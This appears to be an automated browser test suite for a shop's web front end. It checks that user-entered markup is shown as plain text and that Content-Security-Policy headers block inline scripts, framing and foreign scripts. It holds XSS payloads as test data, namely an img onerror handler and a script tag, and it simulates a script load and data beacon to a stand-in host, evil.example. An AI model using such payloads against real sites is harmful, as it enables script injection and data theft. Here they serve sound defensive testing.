import { expect, journey } from "../harness/index.ts";

const MARKUP = '<img src="/none" onerror="document.title=`caught`"><script>document.title=`caught`</script>';

journey("markup in what others have written is shown as text and runs nowhere", async ({ page, shop }) => {
  const product = await shop.product({ name: MARKUP, description: `Nice. ${MARKUP}`, options: [{ Size: MARKUP }] });
  const robin = await shop.customer(MARKUP.slice(0, 60));
  const sku = product.variants[0]?.sku ?? "";
  await robin.api.PUT("/v1/cart/items/{sku}", { params: { path: { sku } }, body: { quantity: 1 } });
  await shop.signIn(page, robin);

  await page.goto(`/products/${product.id}`);
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(product.name);
  await expect(page.getByRole("main")).toContainText(`Nice. ${MARKUP}`);
  await page.getByRole("button", { name: "Cart, 1 item" }).click();
  await expect(page.getByRole("dialog", { name: "Cart" })).toContainText(product.name);
  await page.keyboard.press("Escape");

  await page.goto(`/search?q=${encodeURIComponent(MARKUP)}`);
  await expect(page.getByRole("heading", { level: 1 })).toContainText("<script>");
  await page.goto("/account");
  await expect(page.getByRole("textbox", { name: "Name" })).toHaveValue(MARKUP.slice(0, 60));
  await expect(page).not.toHaveTitle("caught");
});

journey("markup that got into a page all the same is stopped by its policy", async ({ page, allow }) => {
  allow.violation(/inline event handler/i);
  allow.violation(/inline script/i);
  allow.violation(/style/i);
  allow.violation(/evil\.example/);
  await page.goto("/");
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
  const title = await page.title();
  await page.evaluate((markup) => {
    document.body.insertAdjacentHTML("beforeend", `<div style="color: red">${markup}</div>`);
    const script = document.createElement("script");
    script.textContent = "document.title = 'caught'";
    document.body.append(script);
    const elsewhere = document.createElement("script");
    elsewhere.src = "https://evil.example/script.js";
    document.body.append(elsewhere);
    const told = new Image();
    return new Promise((resolve) => {
      told.onerror = resolve;
      told.src = "http://evil.example/stolen";
    });
  }, MARKUP);
  await expect(page).toHaveTitle(title);
});

for (const path of ["/", "/admin/", "/checkout", "/no/such/page"]) {
  journey(
    `the page ${path} comes with a policy that allows no inline code and no frame around it`,
    async ({ page }) => {
      const response = await page.goto(path);
      const policy = response?.headers()["content-security-policy"] ?? "";
      expect(policy).not.toMatch(/unsafe-| \*[ ;]/);
      expect(policy).toMatch(/script-src 'self' 'sha256-/);
      expect(policy).toContain("frame-ancestors 'none'");
      expect(policy).toContain("base-uri 'none'");
      await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    },
  );
}
